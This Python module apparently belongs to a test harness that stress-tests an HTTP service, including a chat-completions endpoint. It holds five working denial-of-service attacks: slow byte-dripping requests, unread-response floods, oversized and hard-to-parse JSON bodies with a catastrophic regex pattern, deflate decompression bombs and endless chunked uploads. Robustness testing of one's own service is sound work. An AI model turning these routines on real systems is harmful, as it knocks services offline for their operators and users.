"""Attacks on the HTTP server of a service."""

import json
import zlib

from bench.attack_client import Aim, Line, attack, crowd


@attack("HTTP, one byte at a time")
async def http_slow(aim: Aim) -> None:
    head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: a\r\nContent-Length: 4000000\r\n\r\n{"

    async def each(aim: Aim, number: int) -> None:
        async with Line(aim, http=True) as line:
            start = len(head) * (number % 3) // 2
            await line.send(head[:start])
            await line.drip((head + b" " * 9999)[start:])

    await crowd(aim, 500, each)


@attack("HTTP, answers that are not read")
async def http_deaf(aim: Aim) -> None:
    path = b"/v1/models" if aim.kind == "llm" else b"/trace"

    async def each(aim: Aim, _: int) -> None:
        async with Line(aim, http=True) as line:
            line.writer.transport.pause_reading()  # type: ignore[attr-defined]
            while True:
                await line.send(b"GET %b HTTP/1.1\r\nHost: a\r\n\r\n" % path * 100)

    await crowd(aim, 64, each)


@attack("HTTP, bodies that are hard to read", "llm")
async def http_hard(aim: Aim) -> None:
    bodies = (
        b"[" * 4_000_000,
        b'{"messages": [' + b",".join([b'{"role": "user"}'] * 200_000) + b"]}",
        b'{"messages": [{"role": "user", "content": "' + b"a " * 1_900_000 + b'"}]}',
        b'{"messages": 1' + b"0" * 3_900_000 + b"}",
        json.dumps(
            {
                "messages": [{"role": "user", "content": "a"}],
                "response_format": {
                    "type": "json_schema",
                    "json_schema": {"schema": {"type": "string", "pattern": "(a{1,9999}){1,9999}"}},
                },
            }
        ).encode(),
    )

    async def each(aim: Aim, number: int) -> None:
        body = bodies[number % len(bodies)]
        head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n"
        async with Line(aim, http=True) as line:
            await line.send(head % len(body) + body)
            await line.reader.readline()

    await crowd(aim, 15, each)


@attack("HTTP, bodies that grow when they are unpacked")
async def http_bombs(aim: Aim) -> None:
    path = b"/v1/chat/completions" if aim.kind == "llm" else b"/trace"
    body = zlib.compress(b'{"messages": "' + bytes(100_000_000))
    head = b"POST %b HTTP/1.1\r\nHost: a\r\nContent-Encoding: deflate\r\nContent-Length: %d\r\n\r\n"

    async def each(aim: Aim, _: int) -> None:
        async with Line(aim, http=True) as line:
            await line.send(head % (path, len(body)) + body)
            await line.reader.readline()

    await crowd(aim, 32, each)


@attack("HTTP, chunks without end")
async def http_chunks(aim: Aim) -> None:
    path = b"/v1/chat/completions" if aim.kind == "llm" else b"/trace"
    head = b"POST %b HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n" % path

    async def each(aim: Aim, number: int) -> None:
        async with Line(aim, http=True) as line:
            await line.send(head)
            while True:
                await line.send(b"1\r\n{\r\n" * 5000 if number % 2 else b"5;" + b"a" * 99_999)

    await crowd(aim, 32, each)
